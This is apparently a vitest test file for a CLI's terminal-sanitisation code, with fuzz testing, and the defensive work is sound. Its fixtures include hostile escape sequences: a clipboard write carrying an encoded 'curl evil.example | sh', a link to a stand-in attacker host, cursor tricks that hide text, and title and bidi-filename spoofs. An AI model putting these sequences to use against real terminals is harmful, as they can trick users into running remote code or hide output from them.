// Issue 16 item 6: untrusted text reaches the table and Markdown outputs without terminal control
// sequences (hyperlinks, clipboard writes, cursor movement). Failed before: the sequences came through raw.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { renderReport } from '../../src/hosts/cli/output.js';
import { stripTerminal } from '../../src/terminal.js';
import { firstIncident } from '../notify/builders.js';
import { fuzzRuns } from './fuzz.js';

const hostileTexts = {
  hyperlink: 'see \x1b]8;;https://evil.example/\x1b\\here\x1b]8;;\x1b\\ now',
  clipboard: 'ok\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07',
  cursor: 'fine\x1b[2A\x1b[2K\rall clear',
  title: '\x1b]0;root@prod\x07x',
  c1: 'a\x9b31mred\x9d8;;http://x\x9cb',
  dcs: 'x\x1bPq#0;2;0;0;0#1;2;100;100;0\x1b\\y',
  bidi: 'admin\u202e\u2066gnp.exe',
  bell: 'ding\x07\x07',
};
// Every byte that can start or carry a control function on a terminal.
const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

describe('stripTerminal', () => {
  it.each(Object.entries(hostileTexts))('%s', (_name, text) => {
    expect(stripTerminal(text)).not.toMatch(CONTROL);
  });

  it('keeps what was meant to be read', () => {
    expect(stripTerminal(hostileTexts.hyperlink)).toBe('see here now');
    expect(stripTerminal(hostileTexts.cursor)).toBe('fineall clear');
    expect(stripTerminal('nf_conntrack_max\tis 131072\nnext line ✓ 日本')).toBe(
      'nf_conntrack_max\tis 131072\nnext line ✓ 日本',
    );
  });

  it(`no input leaves a control character (fast-check, ${fuzzRuns(500)} cases)`, () => {
    const pieces = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.constantFrom(
        '\x1b',
        '\x1b[',
        '\x1b]',
        '\x07',
        '\x9b',
        '\x9d',
        '\x9c',
        '\x1b\\',
        ';',
        '8',
        'm',
        '\r',
      ),
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 30 }), (parts) => {
        const out = stripTerminal(parts.join(''));
        return !CONTROL.test(out);
      }),
      { numRuns: fuzzRuns(500) },
    );
  });
});

describe('table and Markdown outputs', () => {
  const report = firstIncident();
  const hostile = {
    ...report,
    errors: Object.entries(hostileTexts).map(([k, message]) => ({
      stage: 'inspect' as const,
      target: `shop/${k}`,
      message,
    })),
    actions: report.actions.map((a) => ({ ...a, reason: `${a.reason} ${hostileTexts.clipboard}` })),
  };
  it.each(['table', 'markdown'] as const)('%s carries no control sequence from the report', (format) => {
    const out = renderReport(hostile, format);
    expect(out).not.toMatch(CONTROL);
    expect(out).toContain('all clear'); // the text itself stays
  });
});
